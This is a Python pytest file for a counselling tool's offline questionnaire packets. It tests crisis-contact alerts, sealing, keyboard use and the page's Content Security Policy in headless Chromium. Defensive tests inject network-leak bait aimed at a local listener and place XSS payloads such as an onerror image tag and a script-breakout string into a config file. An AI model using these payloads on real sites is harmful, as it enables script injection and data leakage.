"""The request packet in a real browser: Chromium from the system packages, headless,
driven by Selenium through the system chromedriver (nothing is downloaded; `.ci/run`
installs both where missing, so these tests are never skipped).

A PHQ-9 and the feedback form travel therapist -> file -> browser -> sealed text ->
import -> dashboard; the keyboard alone answers and seals a GAD-7; the page's CSP
stops a packet that tries to load anything (a local listener hears nothing, and the
same packet without its CSP is heard, so the listener can fail the test).
"""

from __future__ import annotations

import http.server
import shutil
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.remote_helpers import remote_runner, request
from tests.test_store_helpers import Runner

CHROMIUM = "/usr/bin/chromium"
CHROMEDRIVER = "/usr/bin/chromedriver"
FLAGS = ("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync",
         "--disable-dev-shm-usage", "--window-size=412,915")  # a phone's viewport


RECORDER = ("window.__violations = [];"
            "document.addEventListener('securitypolicyviolation', function (e) {"
            " window.__violations.push(e.effectiveDirective + ' ' + e.blockedURI); });")


def violations(driver: Any) -> list[str]:
    return list(driver.execute_script("return window.__violations"))


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from selenium import webdriver
    from selenium.webdriver.chrome.options import Options
    from selenium.webdriver.chrome.service import Service

    for tool in (CHROMIUM, CHROMEDRIVER):
        assert Path(tool).exists(), (f"{tool} is missing: install the system packages "
                                     "(apt-get install chromium chromium-driver; .ci/run does)")
    profile = tempfile.mkdtemp(prefix="planwise-chromium-")
    opts = Options()
    opts.binary_location = CHROMIUM
    for flag in FLAGS:
        opts.add_argument(flag)
    opts.add_argument(f"--user-data-dir={profile}")
    opts.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=opts)
    driver.set_page_load_timeout(30)
    # Every page records its CSP violations from the start (this runs before the page's
    # own script, outside its CSP): a packet that tries to load anything fails the tests.
    driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": RECORDER})
    try:
        yield driver
    finally:
        driver.quit()
        shutil.rmtree(profile, ignore_errors=True)


@pytest.fixture()
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Runner:
    cfg = tmp_path / "config.toml"
    cfg.write_text('practice = "Birch Lane Counselling"\n'
                   'crisis_contacts = ["Crisis line: 0800 000 111, any hour", '
                   '"Emergency: 112"]\n')
    monkeypatch.setenv("PLANWISE_CONFIG", str(cfg))
    return remote_runner(tmp_path, monkeypatch)


def answer(driver: Any, name: str, value: int) -> None:
    driver.find_element("css selector", f"input[name='{name}'][value='{value}']").click()


def shown(driver: Any, element_id: str) -> bool:
    return bool(driver.execute_script(
        f"return !document.getElementById('{element_id}').hidden"))


def test_phq9_and_feedback_travel_to_the_dashboard(browser: Any, run: Runner, tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    req = request(run, tmp_path, "phq9", "--feedback")
    browser.get((tmp_path / "packet.html").as_uri())
    assert browser.execute_script("return window.isSecureContext && !!crypto.subtle")
    assert browser.title == "Birch Lane Counselling: questionnaire"
    # The page shows the fingerprint `planwise keys show` prints, computed from its key.
    shown_key = next(line for line in run.ok("keys", "show").splitlines()
                     if line.startswith("fingerprint ")).removeprefix("fingerprint ")
    line = browser.execute_script(
        "return new Promise(function (ok) { (function wait() {"
        " var t = document.getElementById('fingerprint').textContent;"
        " if (t) { ok(t); } else { setTimeout(wait, 20); } })(); })")
    assert f"fingerprint is {shown_key}." in line
    assert len(browser.find_elements("css selector", "fieldset")) == 9 + 4
    # Sealing with nothing answered lists every question and moves the focus to the list.
    browser.find_element("id", "seal").click()
    assert shown(browser, "errors")
    assert "13 questions have no answer yet" in browser.find_element("id", "errors").text
    assert browser.switch_to.active_element.get_attribute("id") == "errors"
    assert not shown(browser, "done")
    for n in range(1, 9):
        answer(browser, f"phq9-{n}", 1)
    assert not shown(browser, "crisis")
    answer(browser, "phq9-9", 1)  # thoughts of self-harm: the contacts show at once
    assert shown(browser, "crisis")
    crisis = browser.find_element("id", "crisis")
    assert crisis.get_attribute("role") == "alert" and crisis.is_displayed()
    assert "Crisis line: 0800 000 111, any hour" in crisis.text
    answer(browser, "phq9-9", 0)
    assert not shown(browser, "crisis")
    answer(browser, "phq9-9", 2)
    assert shown(browser, "crisis")
    for item, value in (("heard", 8), ("mattered", 6), ("approach", 9), ("overall", 8)):
        answer(browser, f"feedback-{item}", value)
    browser.find_element("id", "seal").click()
    text = browser.execute_script(
        "return new Promise(function (ok) { (function wait() {"
        " var v = document.getElementById('sealed').value;"
        " if (v) { ok(v); } else { setTimeout(wait, 50); } })(); })")
    assert text.startswith("-----BEGIN PLANWISE RESPONSE-----\n")
    assert text.rstrip().endswith("-----END PLANWISE RESPONSE-----")
    assert shown(browser, "done") and not shown(browser, "errors")
    browser.find_element("id", "copy").click()
    assert "Copied" in browser.find_element("id", "status").text
    # Download: the file the client would attach is the sealed text itself.
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    browser.execute_cdp_cmd("Browser.setDownloadBehavior",
                            {"behavior": "allow", "downloadPath": str(downloads)})
    browser.find_element("id", "download").click()
    saved = downloads / f"planwise-response-{req['request']}.txt"
    for _ in range(100):
        if saved.exists() and saved.read_text(encoding="utf-8"):
            break
        browser.execute_script("return new Promise(function (ok) { setTimeout(ok, 50); })")
    assert saved.read_text(encoding="utf-8") == text
    # Nothing is kept in the browser.
    assert browser.execute_script(
        "return [localStorage.length, sessionStorage.length, document.cookie]") == [0, 0, ""]
    assert not [e for e in browser.get_log("browser") if e["level"] == "SEVERE"]
    assert violations(browser) == []  # the packet itself loads nothing

    code, out, err = run.invoke("measure", "import", str(saved))
    assert code == 0, err
    assert out.startswith("RISK: C1: remote answer signals risk: contact the client")
    today = browser.execute_script(
        "var d = new Date(); return d.getFullYear() + '-' + ('0' + (d.getMonth() + 1))"
        ".slice(-2) + '-' + ('0' + d.getDate()).slice(-2)")
    rows = run.rows("SELECT instrument, date, total, flags, source FROM measures")
    assert rows == [{"instrument": "phq9", "date": today, "total": 10,
                     "flags": '["item9_positive"]', "source": "remote"}]
    assert "heard 8, mattered 6, approach 9, overall 8" in out
    dash = run.ok("dashboard")
    assert dash.splitlines()[0].startswith("C1\t")
    assert f"remote answer signals risk: contact the client ({req['request']}" in dash


def test_keyboard_alone_answers_and_seals(browser: Any, run: Runner, tmp_path: Path) -> None:
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.keys import Keys

    request(run, tmp_path, "gad7")
    browser.get((tmp_path / "packet.html").as_uri())
    keys = ActionChains(browser)
    for _ in range(7):
        keys.send_keys(Keys.TAB).send_keys(Keys.ARROW_RIGHT)  # into the group, option 1
    keys.send_keys(Keys.TAB).perform()
    assert browser.switch_to.active_element.get_attribute("id") == "seal"
    ActionChains(browser).send_keys(Keys.ENTER).perform()
    text = browser.execute_script(
        "return new Promise(function (ok) { (function wait() {"
        " var v = document.getElementById('sealed').value;"
        " if (v) { ok(v); } else { setTimeout(wait, 50); } })(); })")
    assert browser.switch_to.active_element.get_attribute("id") == "done-title"
    f = tmp_path / "response.txt"
    f.write_text(text, encoding="utf-8")
    code, out, err = run.invoke("measure", "import", str(f))
    assert code == 0, err
    assert run.rows("SELECT total, answers FROM measures") == [
        {"total": 7, "answers": "[1, 1, 1, 1, 1, 1, 1]"}]


def test_page_is_readable_on_a_phone_at_large_text(browser: Any, run: Runner,
                                                   tmp_path: Path) -> None:
    request(run, tmp_path, "phq9", "--feedback")
    browser.get((tmp_path / "packet.html").as_uri())
    browser.execute_script("document.documentElement.style.fontSize = '200%'")
    # No sideways scrolling at 412 px with text at twice the size, every radio labelled.
    assert browser.execute_script(
        "return document.documentElement.scrollWidth <= window.innerWidth")
    assert browser.execute_script(
        "return [...document.querySelectorAll('input[type=radio]')]"
        ".every(function (i) { return i.closest('label') && i.closest('fieldset')"
        " .querySelector('legend').textContent.length > 0; })")
    assert browser.find_element("tag name", "html").get_attribute("lang") == "en"


class _Listener:
    """A local HTTP server that records every request it gets."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        heard = self.heard

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (the stdlib's name)
                heard.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture()
def listener() -> Iterator[_Listener]:
    lst = _Listener()
    yield lst
    lst.close()


def _settle(browser: Any) -> None:
    browser.execute_script(
        "return new Promise(function (ok) { setTimeout(ok, 1500); })")


def test_csp_stops_a_packet_that_loads_from_the_network(browser: Any, run: Runner,
                                                         tmp_path: Path,
                                                         listener: _Listener) -> None:
    req = request(run, tmp_path, "phq9")
    html = req["html"]
    bait = (f'<img src="{listener.url}/img" alt="">'
            f'<link rel="stylesheet" href="{listener.url}/css">'
            f'<iframe src="{listener.url}/frame"></iframe>'
            f'<script src="{listener.url}/script.js"></script>'
            f'<script>fetch("{listener.url}/inline")</script>')
    tampered = html.replace("</main>", bait + "</main>")
    (tmp_path / "tampered.html").write_text(tampered, encoding="utf-8")
    browser.get((tmp_path / "tampered.html").as_uri())
    _settle(browser)
    assert listener.heard == []
    logs = " ".join(e["message"] for e in browser.get_log("browser"))
    assert "Content Security Policy" in logs
    seen = " ".join(violations(browser))
    assert "img-src" in seen and "style-src" in seen and "frame-src" in seen
    assert "script-src" in seen
    # The page's own script still ran (its hash is allowed): the questions are there.
    assert len(browser.find_elements("css selector", "fieldset")) == 9

    # Control: the same bait without the CSP is heard, so the listener can fail the test.
    start, end = tampered.index('<meta http-equiv="Content-Security-Policy"'), None
    end = tampered.index(">", start) + 1
    (tmp_path / "open.html").write_text(tampered[:start] + tampered[end:], encoding="utf-8")
    browser.get((tmp_path / "open.html").as_uri())
    _settle(browser)
    assert "/img" in listener.heard


def test_csp_stops_the_packets_own_script_from_fetching(browser: Any, run: Runner,
                                                        tmp_path: Path,
                                                        listener: _Listener,
                                                        monkeypatch: pytest.MonkeyPatch
                                                        ) -> None:
    """A packet whose own (hash-allowed) script tries fetch(), an image and a beacon:
    connect-src and img-src 'none' stop each, and the page sees the violations."""
    from planwise.remote import packet

    real = packet._asset("packet.js")
    leaky = real + (
        f"\nfetch('{listener.url}/fetch').catch(function () {{}});"
        f"new Image().src = '{listener.url}/image';"
        f"navigator.sendBeacon('{listener.url}/beacon', 'x');")
    original = packet._asset
    monkeypatch.setattr(packet, "_asset",
                        lambda name: leaky if name == "packet.js" else original(name))
    request(run, tmp_path, "phq9", name="leaky.html")
    browser.get((tmp_path / "leaky.html").as_uri())
    _settle(browser)
    assert listener.heard == []
    seen = " ".join(violations(browser))
    assert "connect-src" in seen and "img-src" in seen


def _sealed_text(browser: Any) -> str:
    return str(browser.execute_script(
        "return new Promise(function (ok) { (function wait() {"
        " var v = document.getElementById('sealed').value;"
        " if (v) { ok(v); } else { setTimeout(wait, 50); } })(); })"))


def test_asq_asks_the_acuity_question_only_after_a_yes(browser: Any, run: Runner,
                                                       tmp_path: Path) -> None:
    req = request(run, tmp_path, "asq")
    browser.get((tmp_path / "packet.html").as_uri())
    for n in range(1, 5):
        answer(browser, f"asq-{n}", 0)
    assert not shown(browser, "asq-5") and not shown(browser, "crisis")
    answer(browser, "asq-2", 1)  # any yes: the contacts, and the question about right now
    assert shown(browser, "asq-5") and shown(browser, "crisis")
    browser.find_element("id", "seal").click()
    assert "1 question has no answer yet" in browser.find_element("id", "errors").text
    answer(browser, "asq-5", 0)
    browser.find_element("id", "seal").click()
    f = tmp_path / "response.txt"
    f.write_text(_sealed_text(browser), encoding="utf-8")
    code, out, err = run.invoke("measure", "import", str(f))
    assert code == 0, err
    assert out.startswith("RISK: C1") and req["request"] in out
    row = run.rows("SELECT total, band, answers FROM measures")[0]
    assert (row["total"], row["band"]) == (1, "positive")
    assert '"thoughts_now": false' in row["answers"]


def test_hostile_practice_name_stays_text(browser: Any, run: Runner, tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    cfg = tmp_path / "hostile.toml"
    cfg.write_text('practice = "</script><script>document.title=\\"pwned\\"</script>{{SCRIPT}}"'
                   '\ncrisis_contacts = ["<img src=x onerror=alert(1)>"]\n')
    monkeypatch.setenv("PLANWISE_CONFIG", str(cfg))
    req = request(run, tmp_path, "phq9")
    assert req["html"].count("<script") == 3  # the two JSON blocks and the page's own
    browser.get((tmp_path / "packet.html").as_uri())
    assert browser.title.startswith("</script><script>document.title=")
    assert browser.title != "pwned"
    answer(browser, "phq9-9", 1)
    assert "<img src=x onerror=alert(1)>" in browser.find_element("id", "crisis").text
    assert not browser.find_elements("css selector", "#crisis img")
